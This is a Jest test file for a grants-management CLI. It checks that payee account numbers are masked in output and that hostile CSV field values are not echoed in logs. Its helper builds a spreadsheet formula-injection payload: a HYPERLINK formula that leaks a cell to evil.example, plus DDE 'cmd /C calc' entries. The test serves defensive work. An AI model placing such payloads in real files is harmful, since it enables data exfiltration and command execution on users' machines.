/**
 * Issue 7, part 5 — secrets and personal data.
 *
 * Award, scheme and budget files carrying payee accounts and long hostile values (a 5,000-character
 * spreadsheet-formula payload in every field in turn, in a header, past the 10,000-character field
 * limit) go through the real CLI with the most verbose logging an operator can switch on
 * (BURSAR_LOG_LEVEL=DEBUG and Powertools' POWERTOOLS_LOGGER_LOG_EVENT=true). Then every command's
 * stdout and stderr is searched:
 * - no full payee account number appears anywhere, except in `awards show ID --show-account`, the
 *   one explicit way to see it (payment files are issue 3's and are not covered here);
 * - no hostile value appears in full: not even any 200-character stretch of it.
 *
 * Most commands run in one CLI process (test/reliability/support/cli-session.ts) to keep the suite
 * fast; one `awards submit` also runs as its own fresh process, as an operator would run it.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { DeadLetterStore } from '../../cli/local/dead-letters.ts';
import { AWARD_COLUMNS } from '../../shared/domain/award.ts';
import { freshTable, type TestTable } from '../support/dynamo.ts';
import { awardFields } from '../support/records.ts';
import { runSession, type SessionStep, type StepResult } from './support/session.ts';
import { spawnCli } from './support/spawn-cli.ts';
import type { CliRun } from '../cli/run-cli.ts';

const root = path.resolve(import.meta.dirname, '../..');
const dir = mkdtempSync(path.join(tmpdir(), 'bursar-secrets-'));

/** A 19-digit account number no other data in the test can contain by chance. */
const account = (n: number) => `62228${String(7_300_000_000_000 + n).padStart(14, '0')}`;

/** A formula payload that never repeats itself, so any 200 characters of it pin down an echo. */
function hostile(length: number, tag: string): string {
  let text = `=HYPERLINK("http://evil.example/${tag}?leak="&D2,"查看")`;
  for (let i = 0; text.length < length; i++) text += `;=cmd|'/C calc'!${tag}${i.toString(36)}`;
  return text.slice(0, length);
}
const PAYLOAD = hostile(5000, 'P');
const DIGITS = '62228' + '0123456789'.repeat(500).slice(0, 4995); // 5,000 digits: no account, but no echo either
const HUGE = hostile(12_000, 'H'); // past the reader's 10,000-character field limit

const quote = (v: string) => (/[",\n\r]/.test(v) || v !== v.trim() ? `"${v.replaceAll('"', '""')}"` : v);
function csv(columns: readonly string[], rows: Record<string, string>[]): string {
  return `${columns.join(',')}\n${rows.map((r) => columns.map((c) => quote(r[c] ?? '')).join(',')).join('\n')}\n`;
}
const award = (n: number, overrides: Record<string, string> = {}) => awardFields(n, { award_id: `S-${String(n).padStart(5, '0')}`, payee_account: account(n), ...overrides });

const HOSTILE_FIELDS = ['award_id', 'measure', 'recipient_name', 'recipient_uscc', 'amount_yuan', 'qualifying_date', 'approved_date', 'approving_unit', 'scheme_id', 'payee_bank'] as const;
const awardRows = [
  award(1), // RESERVED
  award(2), // RESERVED (cancelled later: the view of a cancelled award is printed too)
  award(3), // WAITLISTED: the budget covers two
  award(4, { approving_unit: 'STB' }), // REJECTED UNIT_NOT_RESPONSIBLE
  award(5, { amount_yuan: '-1' }), // INVALID, with a valid account
  award(6, { payee_account: `${account(6).slice(0, 4)} ${account(6).slice(4)}` }), // INVALID account: digits with a space
  award(1), // DUPLICATE within the file
  award(7), // fine (after the duplicate)
  // The payload in every field in turn; award_id twice (the file's own duplicate check sees it).
  ...HOSTILE_FIELDS.map((field, i) => award(10 + i, { [field]: PAYLOAD })),
  award(30, { award_id: PAYLOAD }),
  award(31, { payee_account: DIGITS }),
  award(32, { recipient_name: HUGE }),
];
const conflictRows = [award(1, { payee_account: account(901), amount_yuan: '999' })]; // CONFLICT with the stored S-00001

/** Every account number in the input, and the hostile values. */
const ACCOUNTS = [...awardRows, ...conflictRows].map((r) => r['payee_account']!).filter((a) => /^\d{6,34}$/.test(a) && a.length < 40);
const HOSTILE = [PAYLOAD, DIGITS, HUGE];

let table: TestTable;
let env: Record<string, string>;
const outputs: { label: string; stdout: string; stderr: string }[] = [];
let shownAccount: StepResult;
let fresh: CliRun;

beforeAll(async () => {
  table = await freshTable();
  env = {
    BURSAR_DYNAMODB_ENDPOINT: process.env['BURSAR_TEST_DYNAMODB_ENDPOINT']!,
    BURSAR_TABLE_NAME: table.tableName,
    BURSAR_LOG_LEVEL: 'DEBUG',
    POWERTOOLS_LOGGER_LOG_EVENT: 'true',
  };
  const file = (name: string, text: string) => { writeFileSync(path.join(dir, name), text); return path.join(dir, name); };
  const awards = file('awards.csv', csv(AWARD_COLUMNS, awardRows));
  const conflicts = file('conflicts.csv', csv(AWARD_COLUMNS, conflictRows));
  const badHeader = file('bad-header.csv', `${AWARD_COLUMNS.join(',')},${quote(PAYLOAD)}\n${AWARD_COLUMNS.map((c) => quote(award(40)[c] ?? '')).join(',')},x\n`);
  const schemes = file('schemes.csv', csv(['scheme_id', 'name', 'measures', 'valid_from', 'valid_to'], [
    { scheme_id: PAYLOAD, name: 'a', measures: '2', valid_from: '2024-01-01', valid_to: '2024-12-31' },
    { scheme_id: 'S-1', name: PAYLOAD, measures: '2', valid_from: '2024-01-01', valid_to: '2024-12-31' },
    { scheme_id: 'S-2', name: 'b', measures: PAYLOAD, valid_from: '2024-01-01', valid_to: '2024-12-31' },
    { scheme_id: 'S-3', name: 'c', measures: '2', valid_from: PAYLOAD, valid_to: '2024-12-31' },
  ]));
  const budgets = file('budgets.csv', csv(['measure', 'fiscal_year', 'amount_yuan'], [
    { measure: PAYLOAD, fiscal_year: '2025', amount_yuan: '1' },
    { measure: '8', fiscal_year: PAYLOAD, amount_yuan: '1' },
    { measure: '9', fiscal_year: '2025', amount_yuan: PAYLOAD },
  ]));

  // A message the local queue gave up on, as submitAwardFile stores it: its body is the record.
  await new DeadLetterStore(table.doc, table.tableName).add({
    queue: 'intake', messageId: 'm-dead-1', receiveCount: 5, firstSentAt: '2025-05-01T00:00:00.000Z', deadAt: '2025-05-01T00:00:01.000Z',
    lastError: 'reported as a batch item failure',
    body: JSON.stringify({ submission_id: 'sub-dead', line: 2, record: award(50) }),
  });
  ACCOUNTS.push(account(50));

  const steps: (SessionStep & { label: string })[] = [
    { label: 'budget set', argv: ['budget', 'set', '--measure', '7', '--fiscal-year', '2025', '--amount-yuan', '2000', '--by', 'finance-a'] },
    { label: 'scheme load', argv: ['scheme', 'load', schemes] },
    { label: 'budget load', argv: ['budget', 'load', budgets, '--by', 'finance-a'] },
    { label: 'awards submit', argv: ['awards', 'submit', awards] },
    { label: 'awards submit (again)', argv: ['awards', 'submit', awards] },
    { label: 'awards submit (conflict)', argv: ['awards', 'submit', conflicts] },
    { label: 'awards submit (bad header)', argv: ['awards', 'submit', badHeader] },
    { label: 'awards submit (text)', argv: ['awards', 'submit', awards], json: false },
    { label: 'awards submit (bad header, text)', argv: ['awards', 'submit', badHeader], json: false },
    { label: 'scheme load (text)', argv: ['scheme', 'load', schemes], json: false },
    { label: 'budget load (text)', argv: ['budget', 'load', budgets, '--by', 'finance-a'], json: false },
    { label: 'awards list', argv: ['awards', 'list'] },
    { label: 'awards list (text)', argv: ['awards', 'list'], json: false },
    { label: 'awards show', argv: ['awards', 'show', 'S-00001'] },
    { label: 'awards show (text)', argv: ['awards', 'show', 'S-00003'], json: false },
    { label: 'awards cancel', argv: ['awards', 'cancel', 'S-00002', '--reason', 'withdrawn', '--by', 'eitb-li'] },
    { label: 'budget show', argv: ['budget', 'show'] },
    { label: 'dlq list', argv: ['dlq', 'list'] },
    { label: 'dlq list (text)', argv: ['dlq', 'list'], json: false },
    { label: 'scheme list', argv: ['scheme', 'list'] },
    { label: 'alerts list', argv: ['alerts', 'list'] },
    ...(existsSync(path.join(root, 'cli/commands/reconcile.ts')) ? [{ label: 'reconcile', argv: ['reconcile'] }] : []),
    { label: 'awards show --show-account', argv: ['awards', 'show', 'S-00001', '--show-account'] },
  ];
  const results = await runSession(steps, env);
  results.forEach((r, i) => {
    const label = steps[i]!.label;
    if (label === 'awards show --show-account') shownAccount = r;
    else outputs.push({ label, stdout: r.stdout, stderr: r.stderr });
  });

  // One submit in a process of its own, on a fresh table, exactly as an operator would run it.
  fresh = await spawnCli(['awards', 'submit', awards], { ...env, BURSAR_TABLE_NAME: `${table.tableName}-fresh` }).done;
  outputs.push({ label: 'awards submit (own process)', stdout: fresh.stdout, stderr: fresh.stderr });
}, 100_000);

afterAll(async () => {
  await table?.drop();
  rmSync(dir, { recursive: true, force: true });
});

/** Which outputs contain `needle`, as `label (stdout|stderr)`. */
function whereFound(needle: string): string[] {
  return outputs.flatMap((o) => [
    ...(o.stdout.includes(needle) ? [`${o.label} (stdout)`] : []),
    ...(o.stderr.includes(needle) ? [`${o.label} (stderr)`] : []),
  ]);
}

describe('secrets and personal data in CLI output and logs', () => {
  test('the commands really ran, logged at DEBUG, and produced the outcomes the checks rely on', () => {
    const byLabel = new Map(outputs.map((o) => [o.label, o]));
    const submit = JSON.parse(byLabel.get('awards submit')!.stdout);
    expect(submit).toMatchObject({ reserved: 2, waitlisted: 2, rejected: 1, duplicates: 1 });
    expect(submit.invalid).toBeGreaterThanOrEqual(HOSTILE_FIELDS.length + 4);
    expect(JSON.parse(byLabel.get('awards submit (conflict)')!.stdout)).toMatchObject({ conflicts: 1 });
    expect(JSON.parse(byLabel.get('awards submit (bad header)')!.stdout).error.code).toBe('BAD_HEADER');
    expect(JSON.parse(byLabel.get('dlq list')!.stdout).dead_letters).toHaveLength(1);
    expect(byLabel.get("awards submit")!.stderr).toMatch(/"level":\s*"INFO"[^}]*"message":\s*"intake result"/); // more than the default WARN was logged
    expect(fresh.code).toBe(0);
    expect(fresh.json).toMatchObject({ reserved: 0, waitlisted: 4, rejected: 1 }); // no budget on that table
  });

  test('`awards show --show-account` is the one output with the full account (the search can find it)', () => {
    expect(shownAccount.code).toBe(0);
    expect(shownAccount.json.payee_account).toBe(account(1));
    expect(shownAccount.stdout).toContain(account(1));
  });

  test('no other output or log contains a full payee account number', () => {
    expect(ACCOUNTS.length).toBeGreaterThanOrEqual(10);
    // Listed by output, so a failure names the commands rather than every account.
    const leaks = new Map<string, number>();
    for (const a of new Set(ACCOUNTS)) for (const where of whereFound(a)) leaks.set(where, (leaks.get(where) ?? 0) + 1);
    expect(Object.fromEntries(leaks)).toEqual({});
  });

  test('an account written with a separator is not echoed either', () => {
    expect(whereFound(`${account(6).slice(0, 4)} ${account(6).slice(4)}`)).toEqual([]);
  });

  test('masked accounts show only the last four digits', () => {
    const listed = JSON.parse(outputs.find((o) => o.label === 'awards list')!.stdout);
    const s1 = listed.awards.find((a: { award_id: string }) => a.award_id === 'S-00001');
    expect(s1.payee_account).toBe(`********${account(1).slice(-4)}`);
  });

  test('a 5,000-character hostile value is never echoed in full, nor any 200 characters of it', () => {
    const echoes: { value: string; at: number; found: string[] }[] = [];
    for (const value of HOSTILE) {
      for (let at = 0; at + 200 <= value.length; at += 100) {
        const found = whereFound(value.slice(at, at + 200));
        if (found.length > 0) echoes.push({ value: value.slice(0, 12), at, found });
      }
    }
    // Group by where it leaked, so a failure names the commands and not hundreds of windows.
    expect([...new Set(echoes.flatMap((e) => e.found.map((f) => `${e.value}… → ${f}`)))]).toEqual([]);
  });

  test('a rejected record is reported by line and field, with at most a short quote of the value', () => {
    const submit = JSON.parse(outputs.find((o) => o.label === 'awards submit')!.stdout);
    const lines = submit.results as { line: number; award_id?: string; outcome: string; errors?: { field: string; message: string }[] }[];
    HOSTILE_FIELDS.forEach((field, i) => {
      const line = lines.find((l) => l.line === 10 + i);
      expect({ field, outcome: line?.outcome, fields: line?.errors?.map((e) => e.field) }).toEqual({ field, outcome: 'INVALID', fields: expect.arrayContaining([field]) });
      for (const e of line!.errors!) expect(e.message.length).toBeLessThan(200);
    });
    for (const l of lines) if (l.award_id !== undefined) expect(l.award_id.length).toBeLessThanOrEqual(64);
  });
});
